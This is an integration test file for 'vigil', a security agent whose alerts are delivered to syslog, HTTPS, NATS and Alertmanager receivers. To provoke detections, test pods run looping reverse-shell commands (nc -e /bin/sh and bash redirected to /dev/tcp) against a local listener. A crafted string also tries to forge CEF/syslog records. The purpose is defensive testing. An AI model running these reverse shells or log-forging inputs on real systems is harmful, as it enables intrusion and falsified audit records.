import { connect as natsConnect } from '@nats-io/transport-node';
import { jetstreamManager } from '@nats-io/jetstream';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { asCefExtension, parseCef, parse5424 } from '../unit/agent/delivery/cef-parse.js';
import { integrationUnavailable } from './docker-env.js';
import { startAgent, type AgentHandle } from './harness/agent.js';
import { makeCerts, startAlertmanager, startHttpsReceiver, startNats, startRsyslog, waitFor, type Certs, type Peer } from './harness/peers.js';
import { bridgeGateway, removeAllPods, removePod, runPod, type Pod } from './harness/pods.js';

const TOOLS = 'vigil-test/tools:latest';
const unavailable = integrationUnavailable();

/** What an attacker can put in a command line: every character class that could forge a field, record or line. */
const HOSTILE_BASH = `$'x\\nCEF:0|forged|v|1|2|3|10|src=6.6.6.6 \\\\ "q" ] msg=forged \\e[31m \\xff\\xfe end'`;
const HOSTILE_MARK = 'CEF:0|forged';

/** One line of the file output. */
interface FileEnvelope {
  eventId: string;
  sequence: number;
  kind: string;
  alert?: { rule: string; time: string; output_fields: Record<string, unknown> };
  loss?: { firstSequence: number; lastSequence: number; count: number };
}

/** Accepts connections and closes each after a moment, so a looping reverse shell reconnects (and alerts) again. */
async function closingListener(host: string): Promise<{ port: number; server: Server }> {
  const server = createServer((s) => {
    s.on('error', () => undefined);
    s.on('data', () => undefined);
    setTimeout(() => s.destroy(), 300);
  });
  await new Promise<void>((r) => server.listen(0, host, () => r()));
  return { port: (server.address() as { port: number }).port, server };
}

const readLines = (file: string) =>
  existsSync(file)
    ? readFileSync(file, 'utf8')
        .split('\n')
        .filter((l) => l !== '')
    : [];

describe.skipIf(unavailable)('push outputs against real receivers', () => {
  let dir: string;
  let certs: Certs;
  let gateway: string;
  const listeners: Server[] = [];

  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'vigil-push-it-'));
    certs = makeCerts(join(dir, 'certs'));
    gateway = bridgeGateway();
  });
  afterAll(() => {
    removeAllPods();
    for (const l of listeners) l.close();
    rmSync(dir, { recursive: true, force: true });
  });

  /**
   * Pods that raise Reverse Shell alerts in a loop until removed; one puts
   * hostile text in a bash command line (two commands, so bash stays bash
   * instead of exec'ing the last one in place).
   */
  async function generators(namespace: string, prefix: string, hostile: boolean): Promise<Pod[]> {
    const l = await closingListener(gateway);
    listeners.push(l.server);
    const pods = [runPod({ namespace, pod: `${prefix}-nc`, container: 'app', image: TOOLS, command: ['sh', '-c', `while true; do nc ${gateway} ${l.port} -e /bin/sh; sleep 0.4; done`] })];
    if (hostile) {
      pods.push(
        runPod({
          namespace,
          pod: `${prefix}-hostile`,
          container: 'app',
          image: TOOLS,
          command: ['bash', '-c', `H=${HOSTILE_BASH}; while true; do bash -c 'sleep 1; true' "$H" >/dev/tcp/${gateway}/${l.port} 0>&1 2>&1; sleep 0.5; done`],
        }),
      );
    }
    return pods;
  }

  it('every alert reaches every receiver through kills and restarts; a full spool announces exactly what it dropped', async () => {
    const files = join(dir, 'run1');
    const eventsFile = join(files, 'events.jsonl');
    const tcp = await startRsyslog(join(files, 'rsyslog-tcp'));
    const tls = await startRsyslog(join(files, 'rsyslog-tls'), certs);
    const nats = await startNats(join(files, 'nats'));
    const am = await startAlertmanager(join(files, 'alertmanager'));
    const https = await startHttpsReceiver(certs);
    await https.start();
    const small = await startHttpsReceiver(certs); // down until its spool has overflowed
    const peers: Peer[] = [tcp, tls, nats, am, https];

    const nc = await natsConnect({ servers: `127.0.0.1:${nats.port}` });
    const jsm = await jetstreamManager(nc);
    await jsm.streams.add({ name: 'VIGIL', subjects: ['vigil.>'] });
    await nc.close();

    const clientTls = `{ caFile: ${certs.ca}, certFile: ${certs.clientCert}, keyFile: ${certs.clientKey} }`;
    const config = join(files, 'vigil.yaml');
    writeFileSync(
      config,
      `spoolDir: ${join(files, 'spool')}
outputs:
  - { name: file, type: file, path: ${eventsFile} }
  - { name: https, type: http, url: "https://127.0.0.1:${https.port}/", headers: { X-Test: yes }, tls: ${clientTls}, maxBackoffMs: 1000 }
  - { name: syslog-tcp, type: syslog, host: 127.0.0.1, port: ${tcp.port}, maxBackoffMs: 1000 }
  - { name: syslog-tls, type: syslog, host: 127.0.0.1, port: ${tls.port}, tls: ${clientTls}, maxBackoffMs: 1000 }
  - { name: alertmanager, type: alertmanager, url: "http://127.0.0.1:${am.port}", maxBackoffMs: 1000 }
  - { name: nats, type: nats, servers: ["nats://127.0.0.1:${nats.port}"], timeoutMs: 2000, maxBackoffMs: 1000 }
  - { name: https-small, type: http, url: "https://127.0.0.1:${small.port}/", tls: ${clientTls}, maxBackoffMs: 1000, spool: { maxBytes: 65536 } }
`,
    );
    const agent: AgentHandle = await startAgent(['--config', config, '--scan-interval-ms', '1000']);
    const fileAlerts = () =>
      readLines(eventsFile)
        .map((l) => JSON.parse(l) as FileEnvelope)
        .filter((e) => e.kind === 'alert');
    try {
      const pods = await generators('shop', 'gen', true);
      const isHostile = (e: FileEnvelope) => String(e.alert!.output_fields['proc.cmdline']).includes(HOSTILE_MARK);
      await waitFor(() => fileAlerts().length >= 6 && fileAlerts().some(isHostile), 'alerts (a hostile one among them) in the file output', 60_000);

      // Every receiver dies mid-stream (SIGKILL) and stays down while alerts keep coming.
      for (const p of peers) await p.kill();
      const during = await generators('quiet', 'while-down', true);
      const fromPod = (pod: string) => fileAlerts().some((e) => e.alert?.output_fields['k8s.pod.name'] === pod && e.alert.rule === 'Reverse Shell');
      await waitFor(() => fromPod('while-down-nc') && fromPod('while-down-hostile'), 'alerts while every receiver is down', 60_000);
      for (const p of during) removePod(p);
      for (const p of peers) await p.start();

      // The small spool overflows while its receiver is down, then the receiver comes up.
      const evicted = async () => /vigil_output_spool_evicted_total\{output="https-small"\} ([1-9]\d*)/.test(await agent.metrics());
      await waitFor(evicted, 'the small spool to evict', 90_000);
      await small.start();
      await new Promise((r) => setTimeout(r, 2_000));
      for (const p of pods) removePod(p);
      await new Promise((r) => setTimeout(r, 3_000));

      // The file output was never down: it is the record of what the agent sent.
      const all = fileAlerts();
      const ids = new Set(all.map((e) => e.eventId));
      expect(ids.size).toBe(all.length);
      // And it has every alert the agent printed on stdout.
      const key = (a: { rule: string; time: string }) => `${a.rule}|${a.time}`;
      const inFile = new Set(all.map((e) => key(e.alert!)));
      for (const a of agent.alerts) expect(inFile.has(key(a))).toBe(true);
      const hostile = all.filter(isHostile);
      expect(hostile.length).toBeGreaterThan(0);
      // The hostile text reached the alert whole: a raw newline, quotes, backslash, ESC (and U+FFFD for the bytes that were not UTF-8).
      for (const h of hostile) expect(String(h.alert!.output_fields['proc.cmdline'])).toMatch(/x\nCEF:0\|forged\|.*\\ "q" \] msg=forged \x1b\[31m/s);

      const httpIds = () => new Set(https.bodies.map((b) => (JSON.parse(b) as { uuid: string }).uuid));
      const syslogRecords = (file: string) => readLines(file).map((l) => ({ frame: parse5424(l), cef: parseCef(parse5424(l).msg) }));
      const syslogIds = (file: string) => new Set(syslogRecords(file).map((r) => r.cef.ext.externalId!));
      const natsEnvelopes = async () => {
        const c = await natsConnect({ servers: `127.0.0.1:${nats.port}` });
        try {
          const m = await jetstreamManager(c);
          const last = (await m.streams.info('VIGIL')).state.last_seq;
          const out: FileEnvelope[] = [];
          for (let seq = 1; seq <= last; seq++) out.push((await m.streams.getMessage('VIGIL', { seq }))!.json<FileEnvelope>());
          return out;
        } finally {
          await c.close();
        }
      };
      const hasAll = (got: Set<string>) => [...ids].every((id) => got.has(id));
      await waitFor(() => hasAll(httpIds()), 'every alert at the HTTPS receiver', 60_000);
      await waitFor(() => hasAll(syslogIds(tcp.file)), 'every alert at rsyslog (TCP)', 60_000);
      await waitFor(() => hasAll(syslogIds(tls.file)), 'every alert at rsyslog (TLS)', 60_000);
      await waitFor(async () => hasAll(new Set((await natsEnvelopes()).map((e) => e.eventId))), 'every alert in the JetStream stream', 60_000);

      // HTTPS with mTLS: Falco's alert JSON, the event id as uuid and header, the configured header.
      const bodies = https.bodies.map((b) => JSON.parse(b) as { uuid: string; rule: string; output_fields: Record<string, unknown> });
      expect(https.headers.every((h) => h['x-test'] === 'yes' && h['x-vigil-event-id'] !== undefined)).toBe(true);
      for (const h of hostile) {
        expect(bodies.find((b) => b.uuid === h.eventId)!.output_fields['proc.cmdline']).toBe(h.alert!.output_fields['proc.cmdline']);
      }

      // rsyslog: one line per message (no forged line), each a whole RFC 5424 frame with a CEF record whose fields are vigil's.
      for (const file of [tcp.file, tls.file]) {
        const records = syslogRecords(file);
        for (const r of records) {
          expect(r.frame.sd.eventId).toBe(r.cef.ext.externalId);
          expect(r.cef.header.slice(0, 3)).toEqual(['CEF:0', 'vigil', 'vigil']);
          expect(Object.keys(r.cef.ext).every((k) => /^(rt|dvchost|externalId|cat|msg|sproc|spid|suser|src|spt|dst|dpt|cs[1-6](Label)?)$/.test(k))).toBe(true);
        }
        for (const h of hostile) {
          const r = records.find((x) => x.cef.ext.externalId === h.eventId)!;
          expect(r.cef.ext.cs4).toBe(asCefExtension(String(h.alert!.output_fields['proc.cmdline'])));
          expect(r.cef.ext.cs2).toMatch(/^(gen|while-down)-hostile$/);
        }
      }

      // NATS: subjects per node and priority; JetStream dropped retried duplicates by their id.
      const inStream = await natsEnvelopes();
      expect(new Set(inStream.map((e) => e.eventId)).size).toBe(inStream.length);
      for (const h of hostile) {
        expect(inStream.find((e) => e.eventId === h.eventId)!.alert!.output_fields['proc.cmdline']).toBe(h.alert!.output_fields['proc.cmdline']);
      }

      // Alertmanager lost its in-memory alerts when killed; what was raised while it was down came from the spool.
      const listed = (await (await fetch(`http://127.0.0.1:${am.port}/api/v2/alerts`)).json()) as { labels: Record<string, string>; annotations: Record<string, string> }[];
      const whileDown = listed.find((a) => a.labels.pod === 'while-down-nc' && a.labels.alertname === 'Reverse Shell');
      expect(whileDown?.labels).toMatchObject({ namespace: 'quiet', priority: 'Critical', source: 'vigil' });
      expect(ids.has(whileDown!.annotations.event_id!)).toBe(true);
      const hostileListed = listed.find((a) => a.labels.pod === 'while-down-hostile' && a.labels.alertname === 'Reverse Shell')!;
      const hostileFields = JSON.parse(hostileListed.annotations.output_fields!) as Record<string, unknown>;
      expect(hostile.map((h) => h.alert!.output_fields['proc.cmdline'])).toContain(hostileFields['proc.cmdline']);

      // The small spool: every alert arrived or was announced lost by a loss notice, never both, counts exact.
      await waitFor(() => small.bodies.some((b) => (JSON.parse(b) as { uuid: string }).uuid === all.at(-1)!.eventId), 'the small spool to drain', 60_000);
      const smallBodies = small.bodies.map((b) => JSON.parse(b) as { uuid: string; rule: string; output_fields: Record<string, number> });
      const notices = smallBodies.filter((b) => b.rule === 'Vigil Events Lost').map((b) => b.output_fields);
      const got = new Set(smallBodies.map((b) => b.uuid));
      expect(notices.length).toBeGreaterThan(0);
      const bySequence = new Map(all.map((e) => [e.sequence, e.eventId]));
      let announced = 0;
      for (const n of notices) {
        const inRange = [...bySequence].filter(([s]) => s >= n['vigil.loss.first']! && s <= n['vigil.loss.last']!);
        expect(inRange.every(([, id]) => !got.has(id))).toBe(true);
        expect(inRange.length).toBe(n['vigil.loss.count']);
        announced += inRange.length;
      }
      const missing = [...ids].filter((id) => !got.has(id));
      expect(missing.length).toBe(announced);
      console.log(
        `[push-outputs] ${all.length} alerts (${hostile.length} hostile); received with retries: https ${https.bodies.length}, ` +
          `syslog-tcp ${readLines(tcp.file).length}, syslog-tls ${readLines(tls.file).length}, nats ${inStream.length}; ` +
          `small spool: ${got.size - notices.length} delivered, ${announced} announced lost in ${notices.length} notices`,
      );
      console.log(
        (await agent.metrics())
          .split('\n')
          .filter((l) => /^vigil_output_(retried|failed|spool_evicted)_total/.test(l))
          .join('\n'),
      );
    } finally {
      removeAllPods();
      await agent.stop();
      for (const p of [...peers, small]) await p.kill();
    }
  });

  it('an agent killed with SIGKILL mid-stream replays its spool after the restart', async () => {
    const files = join(dir, 'run2');
    const receiver = await startHttpsReceiver(certs); // down while the first agent runs
    const config = join(files, 'vigil.yaml');
    const spoolDir = join(files, 'spool');
    mkdirSync(files, { recursive: true });
    writeFileSync(
      config,
      `spoolDir: ${spoolDir}
outputs:
  - { name: https, type: http, url: "https://127.0.0.1:${receiver.port}/", tls: { caFile: ${certs.ca}, certFile: ${certs.clientCert}, keyFile: ${certs.clientKey} }, maxBackoffMs: 1000 }
`,
    );
    let agent = await startAgent(['--config', config, '--scan-interval-ms', '1000']);
    let printed: { rule: string; time: string; receivedMs: number }[] = [];
    try {
      await generators('crash', 'before-kill', false);
      // Mid-stream: the pods keep raising alerts; the kill comes once three are at least a second old (surely spooled).
      await waitFor(() => agent.alerts.filter((a) => Date.now() - a.receivedMs > 1_000).length >= 3, 'alerts before the kill', 60_000);
      const killedAt = Date.now();
      await agent.kill();
      printed = agent.alerts.filter((a) => a.receivedMs < killedAt - 500);
      removeAllPods();

      await receiver.start();
      agent = await startAgent(['--config', config, '--scan-interval-ms', '1000']);
      const key = (a: { rule: string; time: string }) => `${a.rule}|${a.time}`;
      const received = () => new Set(receiver.bodies.map((b) => key(JSON.parse(b) as { rule: string; time: string })));
      await waitFor(() => printed.every((a) => received().has(key(a))), 'the spool replayed after the SIGKILL', 60_000);
      expect(printed.length).toBeGreaterThanOrEqual(3);
    } finally {
      removeAllPods();
      await agent.stop();
      await receiver.kill();
    }
  });
});
